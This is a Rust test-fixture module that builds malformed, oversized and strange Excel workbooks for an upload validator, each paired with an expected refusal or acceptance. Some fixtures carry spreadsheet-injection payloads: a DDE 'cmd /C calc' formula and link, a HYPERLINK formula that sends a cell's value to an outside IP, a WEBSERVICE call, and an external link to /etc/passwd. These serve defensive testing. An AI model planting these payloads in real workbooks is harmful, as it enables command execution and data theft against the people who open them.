//! Workbooks: more than a sheet holds, and cells that are not what they look like.

use super::fixture::Fate;
use super::fixture::Fixture;
use super::fixture::Upload;
use crate::registry::files::SHEET;
use crate::registry::files::TEXTS;
use crate::registry::files::pack;
use crate::registry::files::parts;
use crate::registry::files::workbook;
use crate::registry::files::workbook_with;
use crate::registry::files::workbook_with_rows;
use crate::registry::hostile::archive;
use crate::registry::hostile::deflated;
use rust_xlsxwriter::Format;
use rust_xlsxwriter::Formula;
use rust_xlsxwriter::Workbook;

const TOO_LARGE: Fate = Fate::Refused("file-too-large");
const UNREADABLE: Fate = Fate::Refused("file-unreadable");
const TEXT: &str = "霍乱";

/// The fixtures of point 3.
pub fn fixtures() -> Vec<Fixture> {
    let mut list = too_much();
    list.extend(strange());
    list
}

fn one(name: &str, bytes: impl Into<Vec<u8>>, fate: Fate) -> Fixture {
    Fixture::dictionary(3, name, bytes, fate)
}

fn row(number: u64, cells: &str) -> String {
    format!("<row r=\"{number}\">{cells}</row>")
}

fn cell(place: &str, text: &str) -> String {
    format!("<c r=\"{place}\" t=\"inlineStr\"><is><t>{text}</t></is></c>")
}

fn header() -> String {
    row(1, &[cell("A1", "code"), cell("B1", "name")].concat())
}

fn entry(number: u64, code: &str, name: &str) -> String {
    let cells = [cell(&format!("A{number}"), code), cell(&format!("B{number}"), name)];
    row(number, &cells.concat())
}

fn too_much() -> Vec<Fixture> {
    let texts = archive(&[TEXTS.to_owned()], &deflated("<si/>", 48), 48 << 20);
    let announced = format!("<sst uniqueCount=\"{}\"><si><t>a</t></si></sst>", u64::MAX);
    let long = "x".repeat(32_768);
    let numbers: Vec<String> = (2..=10_000).map(|number| row(number, "")).collect();
    let past = [header(), entry(1_048_577, "01", TEXT)].concat();
    let wide = [header(), row(2, &cell("XFD2", "x"))].concat();
    let nested = "<a>".repeat(10_000);
    let attribute = format!("<row r=\"{}\"/>", "1".repeat(2 << 20));
    let backwards = [header(), entry(3, "02", TEXT), entry(2, "01", TEXT)].concat();
    let twice = [header(), row(2, &cell("A2", "01").repeat(2))].concat();
    vec![
        one("shared-texts-10-million.xlsx", texts, TOO_LARGE),
        one(
            "shared-texts-announced.xlsx",
            workbook_with(TEXTS, announced),
            TOO_LARGE,
        ),
        one(
            "cell-of-32768-characters.xlsx",
            workbook_with_rows(&[header(), entry(2, "01", &long)].concat()),
            TOO_LARGE,
        ),
        one("row-1048577.xlsx", workbook_with_rows(&past), TOO_LARGE),
        one("column-16384.xlsx", workbook_with_rows(&wide), TOO_LARGE),
        one("nested-10000-deep.xlsx", workbook_with_rows(&nested), TOO_LARGE),
        one(
            "attribute-of-2-megabytes.xlsx",
            workbook_with_rows(&attribute),
            TOO_LARGE,
        ),
        one("rows-backwards.xlsx", workbook_with_rows(&backwards), UNREADABLE),
        one("cell-twice.xlsx", workbook_with_rows(&twice), UNREADABLE),
        one(
            "empty-rows.xlsx",
            workbook_with_rows(&[header(), numbers.concat()].concat()),
            Fate::Refused("file-empty"),
        ),
        one("no-sheet.xlsx", without(SHEET), UNREADABLE),
    ]
}

fn without(part: &str) -> Vec<u8> {
    let mut parts = parts(&workbook(&[&["code", "name"], &["01", TEXT]]));
    parts.retain(|(name, _)| name != part);
    pack(&parts)
}

fn strange() -> Vec<Fixture> {
    let numbers = "<c r=\"A2\"><v>1</v></c><c r=\"B2\" t=\"inlineStr\"><is><t>霍乱</t></is></c>";
    let numbers = [header(), row(2, numbers)].concat();
    let no_result = "<c r=\"A2\"><f>1+1</f></c><c r=\"B2\" t=\"inlineStr\"><is><t>霍乱</t></is></c>";
    let no_result = [header(), row(2, no_result)].concat();
    let divisions = [header(), entry(2, "110000", "北京市")].concat();
    let lost = "<c r=\"A3\"><v>1.2e17</v></c><c r=\"B3\" t=\"inlineStr\"><is><t>某</t></is></c>";
    let lost = [divisions, row(3, lost)].concat();
    vec![
        one(
            "formula-without-result.xlsx",
            workbook_with_rows(&no_result),
            Fate::Finding("rows-refused", "cell-invalid"),
        ),
        one(
            "cells-merged.xlsx",
            merged(),
            Fate::Finding("rows-refused", "cell-invalid"),
        ),
        Fixture::of(
            3,
            "digits-lost.xlsx",
            Upload::Edition,
            workbook_with_rows(&lost),
            Fate::Finding("rows-refused", "scientific-notation"),
        ),
        one("zeros-lost.xlsx", workbook_with_rows(&numbers), Fate::Accepted(1)),
        one("dates-1900.xlsx", dates(false), Fate::Accepted(1)),
        one("dates-1904.xlsx", dates(true), Fate::Accepted(1)),
        one("rows-and-columns-hidden.xlsx", hidden(), Fate::Accepted(2)),
        one("formulas.xlsx", formulas(), Fate::Accepted(4)),
        one("external-link.xlsx", external_link(), Fate::Accepted(1)),
        one(
            "macro.xlsm",
            workbook_with("xl/vbaProject.bin", vec![0xD0; 4_096]),
            Fate::Accepted(1),
        ),
    ]
}

fn book(fill: impl FnOnce(&mut rust_xlsxwriter::Worksheet)) -> Vec<u8> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "code").unwrap();
    sheet.write_string(0, 1, "name").unwrap();
    fill(sheet);
    book.save_to_buffer().unwrap()
}

fn merged() -> Vec<u8> {
    book(|sheet| {
        sheet.merge_range(1, 0, 2, 0, "01", &Format::new()).unwrap();
        sheet.write_string(1, 1, TEXT).unwrap();
        sheet.write_string(2, 1, "伤寒").unwrap();
    })
}

fn dates(from_1904: bool) -> Vec<u8> {
    let bytes = book(|sheet| {
        let day = Format::new().set_num_format("yyyy-mm-dd");
        sheet.write_string(1, 0, "01").unwrap();
        sheet.write_number_with_format(1, 1, 60.0, &day).unwrap();
    });
    if !from_1904 {
        return bytes;
    }
    let mut parts = parts(&bytes);
    for (name, bytes) in &mut parts {
        if name == "xl/workbook.xml" {
            let text = String::from_utf8(std::mem::take(bytes)).unwrap();
            *bytes = text.replace("<workbookPr ", "<workbookPr date1904=\"1\" ").into_bytes();
        }
    }
    pack(&parts)
}

fn hidden() -> Vec<u8> {
    book(|sheet| {
        sheet.write_string(1, 0, "01").unwrap();
        sheet.write_string(1, 1, TEXT).unwrap();
        sheet.write_string(2, 0, "02").unwrap();
        sheet.write_string(2, 1, "伤寒").unwrap();
        sheet.set_row_hidden(2).unwrap();
        sheet.set_column_hidden(1).unwrap();
    })
}

/// Formulas, one of them a DDE command: their stored results are text like any other.
fn formulas() -> Vec<u8> {
    let commands = [
        "=cmd|'/C calc'!A0",
        "=HYPERLINK(\"http://203.0.113.1/?x=\"&A1,\"x\")",
        "=WEBSERVICE(\"http://203.0.113.1/\")",
        "='[other.xlsx]Sheet1'!A1",
    ];
    book(|sheet| {
        for (row, command) in (1..).zip(commands) {
            sheet.write_string(row, 0, format!("0{row}")).unwrap();
            sheet
                .write_formula(row, 1, Formula::new(command).set_result(TEXT))
                .unwrap();
        }
    })
}

fn external_link() -> Vec<u8> {
    let mut parts = parts(&workbook(&[&["code", "name"], &["01", TEXT]]));
    let link = "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/C calc\"/></externalLink>";
    let target = "<Relationships><Relationship Id=\"rId1\" Target=\"file:///etc/passwd\" TargetMode=\"External\"/></Relationships>";
    parts.push(("xl/externalLinks/externalLink1.xml".to_owned(), link.into()));
    parts.push((
        "xl/externalLinks/_rels/externalLink1.xml.rels".to_owned(),
        target.into(),
    ));
    pack(&parts)
}
